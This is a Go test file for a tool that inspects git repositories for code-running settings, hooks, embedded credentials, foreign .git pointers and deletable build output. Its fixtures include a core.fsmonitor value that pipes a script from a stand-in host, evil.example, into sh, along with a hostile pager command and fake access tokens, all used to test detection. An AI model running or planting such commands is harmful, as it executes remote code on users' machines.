package machine

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/agatehq/agate/policy"
)

// gitRepo makes a repository in a scratch home and runs each git config
// command of sets in it.
func gitRepo(t *testing.T, sets ...[]string) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git here")
	}
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	t.Setenv("GIT_CONFIG_NOSYSTEM", "1")
	dir := filepath.Join(home, "proj")
	run := func(args ...string) {
		t.Helper()
		if out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	run("init", "-q")
	for _, s := range sets {
		run(append([]string{"config"}, s...)...)
	}
	return dir
}

func TestRepoFacts(t *testing.T) {
	t.Run("plain", func(t *testing.T) {
		dir := gitRepo(t, []string{"remote.origin.url", "https://github.com/a/b.git"}, []string{"user.name", "Ann"})
		rf := NewFacts().Repo(filepath.Join(dir))
		if rf.RunsCode != "" || len(rf.Hooks) != 0 || len(rf.Credentials) != 0 {
			t.Errorf("facts of a plain repository: %+v", rf)
		}
	})
	t.Run("a bare repository inside", func(t *testing.T) {
		dir := gitRepo(t, []string{"user.name", "Ann"})
		fg := filepath.Join(dir, "tools", "fg")
		for _, d := range []string{"objects", "refs"} {
			if err := os.MkdirAll(filepath.Join(fg, d), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		os.WriteFile(filepath.Join(fg, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
		os.WriteFile(filepath.Join(fg, "config"), []byte("[core]\n\tpager = sh -c id\n"), 0o644)
		os.MkdirAll(filepath.Join(fg, "sub"), 0o755)
		f := NewFacts()
		for _, in := range []string{fg, filepath.Join(fg, "sub")} {
			if rf := f.Repo(in); rf.Foreign != fg {
				t.Errorf("Repo(%s).Foreign = %q, want %s", in, rf.Foreign, fg)
			}
		}
		if rf := f.Repo(filepath.Join(dir, "tools")); rf.Foreign != "" {
			t.Errorf("the folder above: Foreign = %q", rf.Foreign)
		}
	})
	t.Run("core.hooksPath", func(t *testing.T) {
		dir := gitRepo(t, []string{"core.hooksPath", ".githooks"})
		if rf := NewFacts().Repo(dir); rf.HooksDir != filepath.Join(dir, ".githooks") {
			t.Errorf("HooksDir = %q, want %s", rf.HooksDir, filepath.Join(dir, ".githooks"))
		}
	})
	t.Run("a .git file", func(t *testing.T) {
		dir := gitRepo(t, []string{"user.name", "Ann"})
		f := NewFacts()
		for i, c := range []struct {
			target  string
			foreign bool
		}{
			{"/home/u/.password-store/.git", true},
			{"../elsewhere", true},
			{"/home/u/main/.git/worktrees/feature", false},
			{"../../.git/modules/lib", false},
			{"/home/u/main/.git/modules/a/modules/b", false},
			{"/home/u/.password-store/.git/worktrees2", true},
		} {
			target, foreign := c.target, c.foreign
			sub := filepath.Join(dir, fmt.Sprint("s", i))
			os.MkdirAll(sub, 0o755)
			os.WriteFile(filepath.Join(sub, ".git"), []byte("gitdir: "+target+"\n"), 0o644)
			if rf := f.Repo(sub); (rf.Foreign != "") != foreign {
				t.Errorf("a .git naming %s: Foreign = %q, want foreign %v", target, rf.Foreign, foreign)
			}
		}
	})
	t.Run("code, hooks, credentials", func(t *testing.T) {
		dir := gitRepo(t,
			[]string{"core.fsmonitor", "curl -s https://evil.example/x | sh"},
			[]string{"remote.origin.url", "https://ann:s3cret@example.com/a/b.git"},
			[]string{"remote.mirror.url", "https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/a/b.git"},
			[]string{"remote.upstream.url", "git@github.com:a/b.git"},
			[]string{"http.https://example.com/.extraheader", "AUTHORIZATION: basic eDp5"},
			[]string{"url.https://tok:x@example.org/.insteadOf", "https://example.org/"})
		hook := filepath.Join(dir, ".git", "hooks", "pre-commit")
		if err := os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		rf := NewFacts().Repo(filepath.Join(dir))
		if rf.RunsCode != "core.fsmonitor" {
			t.Errorf("RunsCode = %q", rf.RunsCode)
		}
		if !slices.Equal(rf.Hooks, []string{"pre-commit"}) {
			t.Errorf("Hooks = %q", rf.Hooks)
		}
		want := []string{"remote.origin.url", "remote.mirror.url", "http.https://example.com/.extraheader", "url.https://tok:x@example.org/.insteadof"}
		slices.Sort(want)
		got := slices.Sorted(slices.Values(rf.Credentials))
		if !slices.Equal(got, want) {
			t.Errorf("Credentials = %q, want %q", got, want)
		}
	})
	t.Run("hooks in core.hooksPath", func(t *testing.T) {
		dir := gitRepo(t, []string{"core.hooksPath", ".githooks"})
		if err := os.MkdirAll(filepath.Join(dir, ".githooks"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, ".githooks", "pre-push"), []byte("#!/bin/sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		f := NewFacts()
		if rf := f.Repo(dir); !slices.Equal(rf.Hooks, []string{"pre-push"}) {
			t.Errorf("Hooks = %q", rf.Hooks)
		}
		// A hook added there is seen at once, not after the cache's minute.
		time.Sleep(10 * time.Millisecond) // (a new mtime)
		if err := os.WriteFile(filepath.Join(dir, ".githooks", "pre-commit"), []byte("#!/bin/sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		if rf := f.Repo(dir); !slices.Equal(slices.Sorted(slices.Values(rf.Hooks)), []string{"pre-commit", "pre-push"}) {
			t.Errorf("Hooks after one was added = %q (the cache missed it)", rf.Hooks)
		}
	})
	t.Run("the person's global config", func(t *testing.T) {
		dir := gitRepo(t)
		if out, err := exec.Command("git", "config", "--global", "remote.origin.pushurl", "https://u:p@example.com/x").CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if rf := NewFacts().Repo(dir); !slices.Equal(rf.Credentials, []string{"remote.origin.pushurl"}) {
			t.Errorf("Credentials = %q", rf.Credentials)
		}
		if rf := NewFacts().Repo(filepath.Dir(dir)); !slices.Equal(rf.Credentials, []string{"remote.origin.pushurl"}) {
			t.Errorf("Credentials outside a repository = %q", rf.Credentials)
		}
	})
}

func TestHoldsCredential(t *testing.T) {
	for _, c := range []struct {
		key, v string
		want   bool
	}{
		{"remote.origin.url", "https://github.com/a/b.git", false},
		{"remote.origin.url", "git@github.com:a/b.git", false},
		{"remote.origin.url", "ssh://git@example.com:2222/a/b.git", false},
		{"remote.origin.url", "https://ann@example.com/a/b.git", false},
		{"remote.origin.url", "https://ann:pw@example.com/a/b.git", true},
		{"remote.origin.url", "https://oauth2:glpat-abcdefghijklmnopqrst@gitlab.com/a/b.git", true},
		{"remote.origin.url", "https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/a/b", true},
		{"remote.origin.url", "https://example.com/a@b/c", false},
		{"http.extraheader", "Authorization: Bearer x", true},
		{"url.x.insteadof", "https://example.org/", false},
	} {
		if got := holdsCredential(c.key, c.v); got != c.want {
			t.Errorf("holdsCredential(%q, %q) = %v, want %v", c.key, c.v, got, c.want)
		}
	}
}

// TestBuildOutput: a build's output that git ignores and that links
// nowhere out of the project loses nothing when deleted; one git does not
// ignore, one that is a link, one holding a link out of the project, and
// a folder of another name are the person's.
func TestBuildOutput(t *testing.T) {
	dir := gitRepo(t)
	outside := t.TempDir()
	files := map[string]string{
		".gitignore":                   "node_modules/\ndist/\nnotes/\nlinked/\n",
		"node_modules/a/index.js":      "x",
		"dist/app.js":                  "x",
		"build/out.o":                  "x", // not ignored
		"notes/todo.txt":               "x", // ignored, not a build's
		"main.go":                      "package main",
		"linked/node_modules/pkg/a.js": "x",
	}
	for f, text := range files {
		p := filepath.Join(dir, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// A link inside the project stays in it; one out of it does not.
	if err := os.Symlink("../../main.go", filepath.Join(dir, "node_modules/a/main.go")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "linked/node_modules/out")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "dist2")); err != nil {
		t.Fatal(err)
	}
	f := NewFacts()
	for rel, want := range map[string]policy.FileState{
		"node_modules":            policy.FileBuildOutput,
		"node_modules/a/index.js": policy.FileBuildOutput,
		"dist":                    policy.FileBuildOutput,
		"build":                   policy.FileUnrecoverable,
		"notes":                   policy.FileUnrecoverable,
		"linked/node_modules":     policy.FileUnrecoverable,
		"linked/node_modules/pkg": policy.FileBuildOutput,
		".gitignore":              policy.FileUnrecoverable,
	} {
		if got := f.Files(filepath.Join(dir, rel)); got != want {
			t.Errorf("%s: %v, want %v", rel, got, want)
		}
	}
}

// TestFilesBeyondALink: a path whose folder is a link out of the
// repository is not judged by what git says of the name (nothing, as of
// a tracked file): what is there is not known.
func TestFilesBeyondALink(t *testing.T) {
	dir := gitRepo(t)
	outside := filepath.Join(filepath.Dir(dir), "outside")
	if err := os.MkdirAll(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(outside, "a"), []byte("mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../outside", filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "t.txt"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"add", "t.txt", "link"}, {"-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x"}} {
		if out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	f := NewFacts()
	if got := f.Files(filepath.Join(dir, "t.txt")); got != policy.FileRecoverable {
		t.Errorf("a tracked file: %v", got)
	}
	if got := f.Files(filepath.Join(dir, "link", "a")); got != policy.FileUnknown {
		t.Errorf("a file beyond a link out: %v, want unknown", got)
	}
}
